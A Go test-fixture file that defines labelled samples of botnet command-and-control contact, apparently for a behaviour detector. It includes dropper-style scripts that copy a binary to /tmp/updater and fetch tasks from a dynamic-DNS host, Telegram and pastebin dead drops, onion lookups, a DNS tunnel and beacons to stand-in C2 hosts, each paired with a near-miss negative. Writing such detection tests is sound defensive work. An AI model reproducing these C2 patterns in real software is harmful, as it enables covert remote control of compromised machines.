package samples

// called is the samples of contacts with whoever gives orders.
func called() []Sample {
	dropped := script("cp /bin/actor /tmp/updater\n/tmp/updater http-get http://bot7.duckdns.org/tasks\n")
	onion := script("cp /bin/busybox /tmp/busybox\n/tmp/busybox nslookup abcdefghij234567abcdefghij234567abcdefghij234567abcdefgh.onion\nexit 0\n")
	return []Sample{
		shows("chat-c2/obeys", acts("telegram-bot", "obey"), malicious, "api.telegram.org", "echo "),
		nearly("chat-c2/mentions", acts("http-get", "http://blog.example.test/api.telegram.org/bot1/getUpdates")),

		shows("dead-drop/paste", acts("dead-drop", "http://pastebin.com/raw/a1b2c3d4"), malicious, "pastebin.com", "203.0.113.200:8080"),
		shows("dead-drop/chain", acts("dead-drop", "http://dogechain.info/api/v1/address/sent/D1", "name"), malicious, "dogechain.info", ".ddns.example.test"),
		nearly("dead-drop/own-page", acts("http-get", "http://paste.example.test/raw/a1b2c3d4")),

		shows("tor-use/onion", onion, malicious, ".onion"),
		nearly("tor-use/other-port", acts("dial", "198.51.100.7:9001")),

		shows("raw-listener/knock", acts("knock", "filter"), malicious, "SO_ATTACH_FILTER"),
		nearly("raw-listener/no-filter", acts("knock", "none")),

		shows("sinkhole-contact/switch", acts("lookup", "www.toknowall.com"), clean, "toknowall.com"),
		nearly("sinkhole-contact/placeholders", acts("dial", "192.0.2.7:443")),

		shows("c2-fallback-list/gates", script("exec /bin/actor fallback gate.one.test gate.two.test 203.0.113.77\n"), harmless, "gate.one.test", "gate.two.test"),
		nearly("c2-fallback-list/one-owner", script("exec /bin/actor fallback a.shop.test b.shop.test c.shop.test\n")),

		shows("dyn-tunnel-host/dropped", dropped, malicious, "bot7.duckdns.org"),
		nearly("dyn-tunnel-host/own-name", acts("http-get", "http://dyndns.docs.example.test/")),

		shows("dga-dns/search", acts("search-master", "55"), malicious, ".test"),
		nearly("dga-dns/suffixes", acts("suffixes")),

		shows("dns-tunnel/hex", acts("tunnel", "60"), malicious, ".t.evil.test"),
		nearly("dns-tunnel/checksums", acts("checksums")),

		shows("beacon-periodic/every-second", script("exec /bin/actor beacon http://c2.example.test/ping 1000 1000 1000 1000\n"), harmless, "c2.example.test", "5 calls"),
		nearly("beacon-periodic/irregular", acts("beacon", "http://c2.example.test/ping", "20", "300", "60", "700")),
	}
}
